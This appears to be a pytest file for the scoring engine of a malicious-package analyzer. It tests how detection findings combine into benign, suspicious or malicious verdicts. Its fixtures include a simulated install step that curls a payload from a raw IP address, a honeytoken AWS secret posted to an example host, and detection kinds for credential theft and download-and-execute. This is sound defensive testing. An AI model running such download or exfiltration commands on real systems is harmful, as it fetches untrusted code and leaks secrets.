"""Scoring: strong evidence convicts alone, weak evidence adds up, a typosquat name alone
never convicts, and the thresholds come from configuration."""

from __future__ import annotations

import textwrap
from dataclasses import replace
from pathlib import Path

import pytest
import yaml

from analyzer.detect.rules.cases import parse_cases
from analyzer.detect.rules.engine import assess
from analyzer.detect.rules.patterns import Problems
from analyzer.detect.rules.ruleset import RULES_DIR, RuleSet, default_rules, load_rules
from analyzer.detect.rules.scoring import ScoringConfig, score
from analyzer.models import AnalysisResult, Ecosystem, Finding, Phase, Severity, Verdict


def case(text: str, ecosystem: Ecosystem = Ecosystem.PYPI) -> AnalysisResult:
    problems = Problems()
    positive, _ = parse_cases({"positive": [yaml.safe_load(textwrap.dedent(text))]}, "case",
                              problems, ecosystem)
    assert not problems, problems.items
    return positive[0].result


class Weighted:
    def __init__(self, weight: float, strong: bool = False, group: str | None = None) -> None:
        self.weight = weight
        self.strong = strong
        self.group = group


def finding(rule: str, phase: Phase | None = Phase.INSTALL) -> Finding:
    return Finding(rule, Severity.MEDIUM, phase, rule, ("e",))


CONFIG = ScoringConfig(suspicious=4, malicious=10, repeat_decay=0.5)


def test_the_arithmetic() -> None:
    rules = {"a": Weighted(3), "b": Weighted(2), "s": Weighted(0, strong=True)}
    assert score([], rules, CONFIG).verdict is Verdict.BENIGN
    assert score([finding("a")], rules, CONFIG) == score([finding("a")], rules, CONFIG)
    one = score([finding("a")], rules, CONFIG)
    assert (one.value, one.verdict) == (3, Verdict.BENIGN)
    # The same rule again in a later phase counts half, then a quarter.
    again = score([finding("a"), finding("a", Phase.IMPORT), finding("a", Phase.EXECUTE)],
                  rules, CONFIG)
    assert (again.value, again.verdict) == (5.25, Verdict.SUSPICIOUS)
    # Different weak rules add up in full.
    both = score([finding("a"), finding("b")], rules, CONFIG)
    assert (both.value, both.verdict) == (5, Verdict.SUSPICIOUS)
    # A strong rule convicts whatever the score.
    assert score([finding("s")], rules, CONFIG).verdict is Verdict.MALICIOUS


def test_the_persona_repeat_of_an_import_counts_once() -> None:
    rules = {"a": Weighted(3)}
    imported = score([finding("a", Phase.IMPORT)], rules, CONFIG)
    both = score([finding("a", Phase.IMPORT), finding("a", Phase.PERSONA)], rules, CONFIG)
    assert both == imported
    assert score([finding("a", Phase.PERSONA)], rules, CONFIG) == imported
    # With an install finding too it counts as a behaviour seen in two phases.
    assert score([finding("a"), finding("a", Phase.PERSONA)], rules, CONFIG).value == 4.5


def test_no_weak_rule_reaches_malicious_through_the_persona() -> None:
    for rule in default_rules().rules:
        if rule.strong or not rule.match.bound:
            continue
        findings = [finding(rule.id, phase) for phase in rule.phases]
        verdict = score(findings, {rule.id: rule}, default_rules().scoring).verdict
        assert verdict is not Verdict.MALICIOUS, rule.id


def test_a_group_counts_at_most_its_cap() -> None:
    config = replace(CONFIG, group_caps={"hints": 2.5})
    rules = {"h1": Weighted(2, group="hints"), "h2": Weighted(2, group="hints"),
             "h3": Weighted(1.5, group="hints"), "b": Weighted(3)}
    hints = score([finding("h1"), finding("h2"), finding("h3")], rules, config)
    assert (hints.value, hints.verdict) == (2.5, Verdict.BENIGN)
    with_behaviour = score([finding("h1"), finding("h2"), finding("b")], rules, config)
    assert (with_behaviour.value, with_behaviour.verdict) == (5.5, Verdict.SUSPICIOUS)


def test_the_shipped_weak_static_hints_alone_stay_benign() -> None:
    rules = default_rules()
    hints = [r for r in rules.rules if r.group == "weak-static"]
    assert len(hints) >= 5
    result = case("static: [" + ", ".join(
        f"{{kind: {kind}, path: pkg/deep/module.py}}"
        for kind in ("encoded-blob", "env-exfil", "credential-file-access", "raw-ip-url",
                     "paste-site", "bundled-executable")) + "]")
    assessed = assess(result, rules)
    assert assessed.verdict is Verdict.BENIGN and assessed.score == 2.5
    assert len(assessed.findings) == 6


def test_capabilities_deep_in_library_code_are_not_a_conviction() -> None:
    kinds = ("download-exec", "persistence", "stealer-target", "powershell-suspicious",
             "env-exfil", "encoded-blob")
    deep = "static: [" + ", ".join(
        f"{{kind: {kind}, path: pm2/lib/API/m{i}.js}}" for i, kind in enumerate(kinds)) + "]"
    assessed = assess(case(deep, Ecosystem.NPM), default_rules())
    assert (assessed.verdict, assessed.score) == (Verdict.SUSPICIOUS, 9.5)
    hooked = deep[:-1] + ", {kind: npm-install-script, path: package/package.json, " \
                         "role: install}]"
    assert assess(case(hooked, Ecosystem.NPM), default_rules()).verdict is Verdict.MALICIOUS


def test_many_weak_signals_reach_malicious() -> None:
    rules = {name: Weighted(3) for name in "abcd"}
    result = score([finding(name) for name in "abcd"], rules, CONFIG)
    assert (result.value, result.verdict) == (12, Verdict.MALICIOUS)


def test_a_failed_analysis_without_evidence_is_an_error_not_benign() -> None:
    assert score([], {}, CONFIG, failed=True).verdict is Verdict.ERROR
    rules = {"s": Weighted(1, strong=True)}
    assert score([finding("s")], rules, CONFIG, failed=True).verdict is Verdict.MALICIOUS


def test_strong_evidence_alone_is_malicious() -> None:
    result = assess(case("""
        install:
          leaks: [{token: aws-secret-access-key, channel: http,
                   destination: "POST https://c.example/"}]
    """), default_rules())
    assert result.verdict is Verdict.MALICIOUS
    assert [f.rule for f in result.findings] == ["honeytoken-leak"]
    assert result.findings[0].evidence == (
        "honeytoken aws-secret-access-key left through http to POST https://c.example/",)


def test_weak_behaviours_add_up_to_malicious() -> None:
    result = assess(case("""
        install:
          processes:
            - {argv: "/home/dev/.venv/bin/python -m pip install x.tar.gz", pid: 10}
            - {argv: "python3 _in_process.py build_wheel /tmp/t", pid: 11, ppid: 10}
            - {argv: "sh -c 'curl -s http://203.0.113.8/p -o /tmp/p'", pid: 12, ppid: 11}
            - {argv: "curl -s http://203.0.113.8/p -o /tmp/p", pid: 13, ppid: 12}
          connections: [{address: 203.0.113.8, port: 80, pid: 13, process: curl}]
          http: [{method: POST, url: "http://203.0.113.8/p", body: "x=1"}]
    """), default_rules())
    fired = {f.rule for f in result.findings}
    assert not any(default_rules().by_id[rule].strong for rule in fired)
    assert result.score is not None and result.score >= 10
    assert result.verdict is Verdict.MALICIOUS


def test_one_weak_behaviour_is_at_most_suspicious() -> None:
    result = assess(case("install: {dns: [api.example.net]}"), default_rules())
    assert result.verdict is Verdict.BENIGN
    assert [f.rule for f in result.findings] == ["dns-during-install"]


def test_a_typosquat_name_alone_is_listed_but_no_verdict() -> None:
    """Honest new names resemble popular ones too often for a name alone to make a
    release suspicious; with an install hook besides it is."""
    result = assess(case("{name: reqeusts, typosquat: {target: requests, distance: 1, "
                         "kind: swap}}"), default_rules())
    assert result.verdict is Verdict.BENIGN
    assert [f.rule for f in result.findings] == ["typosquat-name"]
    hooked = assess(case("""
        name: reqeusts
        typosquat: {target: requests}
        static: [{kind: npm-install-script, path: package/package.json}]
    """), default_rules())
    assert hooked.verdict is Verdict.SUSPICIOUS
    # Every way the default set could score a name alone stays below malicious.
    squat = default_rules().by_id["typosquat-name"]
    assert not squat.strong and squat.weight < default_rules().scoring.malicious


def test_a_typosquat_with_weak_evidence_becomes_malicious() -> None:
    result = assess(case("""
        name: reqeusts
        typosquat: {target: requests}
        static: [{kind: obfuscation, path: reqeusts/__init__.py},
                 {kind: raw-ip-url, path: reqeusts/__init__.py}]
    """), default_rules())
    assert result.verdict is Verdict.MALICIOUS


def test_thresholds_come_from_configuration(tmp_path: Path) -> None:
    for source in RULES_DIR.glob("*.yaml"):
        if source.name != "scoring.yaml":
            (tmp_path / source.name).write_text(source.read_text())
    (tmp_path / "scoring.yaml").write_text(
        "scoring: {thresholds: {suspicious: 2, malicious: 20}, repeat_decay: 0,\n"
        "          groups: {weak-static: {cap: 2.5}, capability: {cap: 7}}}\n")
    strict: RuleSet = load_rules([tmp_path])
    weak = case("install: {dns: [api.example.net]}")
    assert assess(weak, default_rules()).verdict is Verdict.BENIGN
    assert assess(weak, strict).verdict is Verdict.SUSPICIOUS
    assert assess(weak, strict).score == 2.5


def test_assess_keeps_everything_else_and_benign_stays_benign() -> None:
    quiet = case("install: {files: [{path: ~/.venv/lib/python3.11/site-packages/x.py, "
                 "access: write}]}")
    result = assess(quiet, default_rules())
    assert (result.verdict, result.score, result.findings) == (Verdict.BENIGN, 0, ())
    assert replace(result, verdict=None, score=None) == quiet


@pytest.mark.parametrize("decay", [-0.1, 1.0])
def test_a_bad_decay_is_refused(decay: float) -> None:
    problems = Problems()
    data = {"thresholds": {"suspicious": 1, "malicious": 2}, "repeat_decay": decay}
    assert ScoringConfig.parse(data, "scoring", problems) is None
    assert problems.items == ["scoring.repeat_decay: need 0 <= repeat_decay < 1"]
